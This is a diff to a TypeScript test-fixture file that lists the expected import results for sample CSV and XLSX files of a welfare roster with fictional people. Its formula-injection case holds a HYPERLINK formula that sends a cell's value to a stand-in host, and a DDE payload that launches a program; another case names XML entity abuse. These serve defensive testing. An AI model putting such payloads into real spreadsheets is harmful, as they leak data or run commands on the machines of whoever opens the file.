@@ -23,6 +23,8 @@ export interface Outcome {
   /** Lines of rows that have more cells than there are titles. */
   readonly torn?: readonly number[];
   readonly notes?: readonly string[];
+  /** Why rows are not taken into an empty roster, by line: a code and the field. */
+  readonly judged?: Readonly<Record<number, readonly string[]>>;
 }
 
 const AGUS = {
@@ -34,6 +36,7 @@ const AGUS = {
   occupation: 'Ojek',
   phone: '080000000001',
   decile: '2',
+  decileEdition: '2025-Q3',
 };
 const SITI = {
   nik: '3275025203900000',
@@ -44,6 +47,7 @@ const SITI = {
   occupation: 'Pedagang kaki lima',
   phone: '080000000002',
   decile: '3',
+  decileEdition: '2025-Q3',
 };
 const JOKO = {
   nik: '3216011708720000',
@@ -54,14 +58,22 @@ const JOKO = {
   occupation: 'Becak',
   phone: '080000000003',
   decile: '1',
+  decileEdition: '2025-Q3',
 };
 /** Those of whom a file says no more than who they are. */
 const agus = { nik: AGUS.nik, name: AGUS.name, birthDate: '01/05/1985' };
 const siti = { nik: SITI.nik, name: SITI.name, birthDate: '12/03/1990' };
 const ALL = { 2: AGUS, 3: SITI, 4: JOKO };
-/** @returns rows from line 2 on, that are Agus but for one field */
+/** Of a new person an import needs to know what they live by, and where. */
+const UNSAID = ['MISSING occupation', 'MISSING village'];
+/** @returns rows from line 2 on, that are Agus but for one field; each was registered in another district, so that nobody is there twice */
 const agusWith = (field: string, values: readonly string[]): Record<number, Fields> =>
-  Object.fromEntries(values.map((value, at) => [at + 2, { ...AGUS, [field]: value }]));
+  Object.fromEntries(
+    values.map((value, at) => [
+      at + 2,
+      { ...AGUS, nik: `3275${String(at + 1).padStart(2, '0')}0105850000`, [field]: value },
+    ]),
+  );
 
 /** Every file of the folder. */
 export const outcomes: readonly Outcome[] = [
@@ -92,6 +104,7 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'name-with-comma-unquoted.csv',
     what: 'a name with a comma, without quotation marks: a cell too many',
+    judged: { 3: ['CELLS row'] },
     rows: { 2: AGUS, 4: JOKO },
     torn: [3],
     notes: ['More cells than titles, perhaps a comma in a value without quotation marks: line 3.'],
@@ -99,11 +112,13 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'nik-as-exponent.csv',
     what: 'a NIK that Excel made 3.275E+15 before it was saved as CSV',
+    judged: { 2: ['NIK_ROUNDED nik'], 3: ['NIK_ROUNDED nik'] },
     rows: { 2: { ...AGUS, nik: '3.275E+15' }, 3: { ...SITI, nik: '3,27503E+15' } },
   },
   {
     file: 'nik-kept-as-text.csv',
     what: 'a NIK as ="…", and with an apostrophe before it',
+    judged: { 2: UNSAID, 3: UNSAID },
     rows: { 2: agus, 3: siti },
   },
   {
@@ -118,6 +133,7 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'nik-too-short.csv',
     what: 'a NIK of 15 digits, none, and one with a letter O',
+    judged: { 2: ['NIK_LENGTH nik'], 3: ['MISSING nik'], 4: ['NIK_LENGTH nik'] },
     rows: {
       2: { ...AGUS, nik: '327501010585000' },
       3: without(SITI, 'nik'),
@@ -132,6 +148,13 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'dates-of-all-kinds.csv',
     what: '31 February, two digits for a year, names of months, the number of a day as a text',
+    judged: {
+      2: ['DATE_IMPOSSIBLE birthDate'],
+      5: ['DATE_IMPOSSIBLE birthDate'],
+      6: ['DATE_IMPOSSIBLE birthDate'],
+      7: ['DATE_IMPOSSIBLE birthDate'],
+      9: ['DATE_IMPOSSIBLE birthDate'],
+    },
     rows: agusWith('birthDate', [
       '31/02/1985',
       '01-05-1985',
@@ -146,6 +169,7 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'phones-of-all-kinds.csv',
     what: 'a telephone without its 0, with +62, with dashes, two of them, none',
+    judged: { 7: ['PHONE_FORM phone'] },
     rows: agusWith('phone', [
       '80000000001',
       '+6280000000001',
@@ -159,16 +183,19 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'women-plus-forty.csv',
     what: 'a woman with her day plus 40, without, and with a day that no month has',
+    judged: { 4: ['NIK_DATE nik'] },
     rows: { 2: SITI, 3: { ...SITI, nik: '3275021203900000' }, 4: { ...SITI, nik: '3275027203900000' } },
   },
   {
     file: 'same-person-twice.csv',
     what: 'one person on two lines',
+    judged: { 4: ['DUPLICATE_IN_FILE row'] },
     rows: { 2: AGUS, 3: SITI, 4: { ...AGUS, name: 'AGUS SETIAWAN' } },
   },
   {
     file: 'other-districts.csv',
     what: 'a province that is not there, a misspelt village, decile 11',
+    judged: { 2: ['NIK_DISTRICT nik'], 3: ['VILLAGE_UNKNOWN village'], 4: ['NUMBER_RANGE decile'] },
     rows: {
       2: { ...AGUS, nik: '9999010105850000' },
       3: { ...SITI, village: 'Margahayuu', district: 'Bekasi Timurr' },
@@ -178,6 +205,7 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'title-and-totals.csv',
     what: 'a title above, numbers of columns, a total and a signature below',
+    judged: { 6: UNSAID, 7: UNSAID },
     rows: { 6: agus, 7: siti },
     notes: [
       'Above the titles, not read: rows 1, 2.',
@@ -195,6 +223,7 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'same-title-twice.csv',
     what: 'two columns with one title',
+    judged: { 2: UNSAID },
     rows: { 2: agus },
     notes: ['The title "Nama" stands more than once; in column C it is read as "Nama (2)".'],
   },
@@ -202,6 +231,7 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'empty-columns.csv',
     what: 'columns without a title, one of them with something in it',
+    judged: { 2: UNSAID, 3: UNSAID },
     rows: { 2: agus, 3: siti },
     notes: ['Column D has no title.'],
   },
@@ -222,12 +252,14 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'titles-of-one-office.csv',
     what: 'titles that only this office has, with a mapping',
+    judged: { 2: UNSAID },
     mapping: { nik: ['kode_orang|x'], name: ['Sebutan'], birthDate: ['lahir_pd'] },
     rows: { 2: agus },
   },
   {
     file: 'formula-injection.csv',
     what: 'cells that a spreadsheet would compute',
+    judged: { 4: ['OCCUPATION_UNKNOWN occupation'] },
     rows: {
       2: { ...AGUS, name: '=HYPERLINK("http://example.invalid/?"&B2,"Agus")' },
       3: { ...SITI, name: "+cmd|' /C calc'!A0" },
@@ -243,14 +275,36 @@ export const outcomes: readonly Outcome[] = [
   { file: 'picture.csv', what: 'bytes that are no text', refused: 'FILE_NO_TABLE' },
   { file: 'web-page.xls', what: 'a web page that a program calls Excel', refused: 'FILE_NO_TABLE' },
   {
+    file: 'decile-without-edition.csv',
+    what: 'a decile, and no edition of it',
+    judged: { 2: ['EDITION_UNKNOWN decileEdition'] },
+    rows: { 2: without(AGUS, 'decileEdition') },
+  },
+  {
+    file: 'members.csv',
+    what: 'members of a group',
+    kind: 'MEMBERS',
+    rows: {
+      2: {
+        nik: SITI.nik,
+        name: SITI.name,
+        group: 'Guru non-ASN',
+        unit: 'SDN Margahayu I',
+        termFrom: '01/07/2024',
+        village: SITI.village,
+      },
+    },
+  },
+  {
     file: 'verifications.csv',
     what: 'answers of an agency',
+    judged: { 2: ['RECORD_UNKNOWN worker'] },
     kind: 'VERIFICATIONS',
     rows: {
       2: {
         worker: 'W-000001',
-        agency: 'DISDUKCAPIL',
-        verdict: 'Sesuai',
+        agency: 'DINSOS',
+        verdict: 'Cocok',
         requestedOn: '2025-11-01',
         answeredOn: '2025-11-04',
       },
@@ -274,6 +328,7 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'titles-joined-over-two-rows.xlsx',
     what: '"Tanggal" over "Lahir" and "Daftar"',
+    judged: { 3: ['MISSING occupation'] },
     rows: { 3: { ...agus, village: AGUS.village, enrolledOn: '03/11/2025' } },
   },
   { file: 'two-sheets.xlsx', what: 'people on two sheets', refused: 'FILE_SHEETS' },
@@ -293,6 +348,7 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'begins-at-c4.xlsx',
     what: 'a table that begins at C4, with a remark beside it',
+    judged: { 5: UNSAID, 9: UNSAID },
     rows: { 5: agus, 9: { nik: SITI.nik, name: SITI.name } },
     notes: ['A cell beyond the last title (column E) was not read: line 5.'],
   },
@@ -300,6 +356,10 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'numbers-and-dates.xlsx',
     what: 'a NIK that is a number, days, a number that is shown with zeros, the number of a day as a text',
+    judged: {
+      2: ['NIK_ROUNDED nik', 'EDITION_UNKNOWN decileEdition'],
+      3: ['NUMBER_RANGE decile', 'DATE_IMPOSSIBLE enrolledOn'],
+    },
     rows: {
       2: {
         nik: '3.27501010585E+15',
@@ -308,7 +368,7 @@ export const outcomes: readonly Outcome[] = [
         kpj: '01234567890',
         phone: '80000000001',
         decile: '2',
-        enrolledOn: '2025-11-03 08:30:00',
+        enrolledOn: '2025-11-03',
       },
       3: {
         nik: SITI.nik,
@@ -320,15 +380,18 @@ export const outcomes: readonly Outcome[] = [
         enrolledOn: '45964',
       },
     },
+    notes: ['Column G has days with an hour: the day was read.'],
   },
   {
     file: 'days-from-1904.xlsx',
     what: 'days that are counted from 1904',
+    judged: { 2: UNSAID },
     rows: { 2: { nik: AGUS.nik, name: AGUS.name, birthDate: AGUS.birthDate } },
   },
   {
     file: 'formulas.xlsx',
     what: 'formulas, one of them a day, one that failed',
+    judged: { 2: ['CELL_ERROR village', 'EDITION_UNKNOWN decileEdition'], 3: ['EDITION_UNKNOWN decileEdition'] },
     rows: {
       2: { nik: AGUS.nik, name: 'AGUS SETIAWAN', birthDate: AGUS.birthDate, village: '#N/A', decile: '2' },
       3: { nik: SITI.nik, name: SITI.name, birthDate: SITI.birthDate, village: SITI.village, decile: '3' },
@@ -340,6 +403,7 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'formulas-never-computed.xlsx',
     what: 'a formula that no spreadsheet has computed',
+    judged: { 2: ['MISSING name', 'MISSING occupation', 'MISSING village'] },
     rows: { 2: { nik: AGUS.nik } },
     notes: ['Formulas without a value, read as empty: 1.'],
   },
@@ -355,9 +419,15 @@ export const outcomes: readonly Outcome[] = [
   {
     file: 'rich-text-in-cells.xlsx',
     what: 'half a name in bold, texts within the cells',
+    judged: { 2: UNSAID },
     rows: { 2: { nik: AGUS.nik, name: AGUS.name } },
   },
-  { file: 'rich-text.xlsx', what: 'half a name in bold', rows: { 2: { nik: AGUS.nik, name: AGUS.name } } },
+  {
+    file: 'rich-text.xlsx',
+    what: 'half a name in bold',
+    judged: { 2: UNSAID },
+    rows: { 2: { nik: AGUS.nik, name: AGUS.name } },
+  },
   { file: 'cut-off.xlsx', what: 'half a file', refused: 'FILE_BROKEN' },
   { file: 'entities.xlsx', what: 'XML that defines entities', refused: 'FILE_BROKEN' },
   { file: 'with-password.xlsx', what: 'a password', refused: 'FILE_PASSWORD' },
